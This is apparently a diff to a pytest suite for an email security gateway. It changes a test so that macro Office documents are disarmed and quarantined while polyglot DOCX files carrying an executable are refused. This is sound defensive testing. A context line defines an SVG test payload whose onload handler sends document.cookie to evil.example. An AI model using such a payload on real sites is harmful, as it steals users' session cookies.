@@ -29,6 +29,7 @@ from typing import Any, Callable, Iterator
 import pytest
 
 from tests.harness import GatewayProcess
+from tests.messages import pdf_bytes
 from tests.hostile_messages import (BIDI, CRLF, DOCM_TYPE, DOCX_TYPE, ONENOTE_MAGIC, OLE_MAGIC, TNEF_MAGIC,
                                     XLSM_TYPE, Case, RawSink, Transaction, b64, b64head, dangers, envelope_message,
                                     multipart, ooxml, part, pe, quarantined, readable_text, rfc2231, text,
@@ -439,8 +440,11 @@ def test_a_tnef_that_does_not_unpack_is_not_delivered(gw: GatewayProcess, raw_si
 
 
 @pytest.mark.parametrize("shape", ["docm", "docm-named-docx", "xlsm", "docx-with-exe-entry"])
-def test_macro_documents_and_polyglot_office_files_are_refused(gw: GatewayProcess, raw_sink: RawSink,
-                                                              shape: str) -> None:
+def test_macro_documents_are_cleaned_and_polyglot_office_files_refused(gw: GatewayProcess, raw_sink: RawSink,
+                                                                       shape: str) -> None:
+    # A macro document reaches the agent without its macros (the disarm
+    # step: the original in quarantine, never linked); an archive that only
+    # looks like Office is refused.
     mail = Mail(f"office-{shape}")
     if shape == "docm":
         blob, ctype, name = ooxml("word", mail.tag, macros=True), DOCM_TYPE, "report.docm"
@@ -451,8 +455,16 @@ def test_macro_documents_and_polyglot_office_files_are_refused(gw: GatewayProces
     else:
         blob, ctype, name = ooxml("word", mail.tag, extra=[("word/media/setup.exe", pe(mail.tag))]), DOCX_TYPE, \
             "contract.docx"
-    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
-                                              files=[blob], name=name))
+    if shape == "docx-with-exe-entry":
+        fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
+                                                  files=[blob], name=name))
+        return
+    cleaned = name.rsplit(".", 1)[0] + (".xlsx" if shape == "xlsm" else ".docx")
+    qid = fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
+                                                    files=[blob], name=cleaned), refused=False)
+    assert quarantined(gw.objects, blob), "the original is kept in quarantine"
+    assert _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileDisarmed"
+                          and e.get("QueueId") == qid], 5.0), "no FileDisarmed audit event"
 
 
 SVG_BODY = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect/></svg>'
@@ -591,7 +603,7 @@ def test_a_customer_id_header_from_an_untrusted_client_does_not_choose_the_folde
         g.start()
         mail = Mail("customer-id")
         exe = pe(mail.tag)
-        big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
+        big = pdf_bytes(30_000)  # a real PDF, over the threshold: offloaded
         root = multipart([mail.body(), part("application/octet-stream", exe, name="setup.exe"),
                           part("application/pdf", big, name="big.pdf")])
         fail_closed(g, raw_sink, mail, mail.case(root, files=[exe], extra=["X-CustomerId: victim-123"]))
